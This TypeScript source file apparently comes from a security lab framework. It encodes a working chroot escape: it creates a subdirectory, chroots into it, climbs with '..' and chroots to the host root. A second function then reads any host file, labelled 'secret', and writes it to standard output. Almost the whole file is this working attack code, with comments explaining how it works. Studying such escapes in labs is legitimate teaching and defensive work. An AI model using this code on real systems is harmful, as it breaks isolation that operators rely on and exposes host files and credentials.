// The way out of a chroot, for whoever is root in it. Walking up with ".."
// stops at the root directory of the process, and at nothing else. So move the
// root below the working directory, and nothing stops the walk any more:
//
//     /                     ◀── the walk ends at the true root
//     └── srv/rootfs/       ◀── root at first, and working directory
//         └── below/        ◀── root now; the working directory is outside it
import { AT_FDCWD, AT_REMOVEDIR, O_RDONLY } from '../sys/constants/files.ts'
import type { Program } from '../sys/program.ts'

/** Deeper than any root filesystem will lie; ".." of "/" is "/" again. */
const CLIMB = 64
const STDOUT = 1

/**
 * Record the way out: afterwards, root and working directory of the process
 * are those of the host.
 *
 * @param climb How many directories to walk up at most.
 * @see chroot(2), "NOTES"
 */
export function recordEscape(
  program: Program,
  { climb = CLIMB }: { climb?: number } = {},
): void {
  // #region lab-01-escape
  const below = '.way-out'
  program.mkdirat(AT_FDCWD, below, 0o700, { ignore: ['EEXIST'] })
  program.note('The root goes below; the working directory stays, outside it')
  program.chroot(below)
  program.unlinkat(AT_FDCWD, below, AT_REMOVEDIR, { ignore: true })
  for (let step = 0; step < climb; step++) program.chdir('..')
  program.note('As far up as it goes: let that be the root')
  program.chroot('.')
  // #endregion lab-01-escape
}

/**
 * Record a copy of a file to standard output, by its path on the host.
 *
 * @param secret Absolute path, as the host sees it.
 */
export function recordTheft(program: Program, secret: string): void {
  const buffer = Buffer.alloc(4096)
  const end = program.ahead()
  const file = program.openat(AT_FDCWD, secret, O_RDONLY)
  const more = program.mark()
  const count = program.syscall('read', [file, buffer, buffer.length], {
    ifZero: end,
  })
  program.write(STDOUT, buffer, count)
  program.jump(more)
  program.place(end)
}
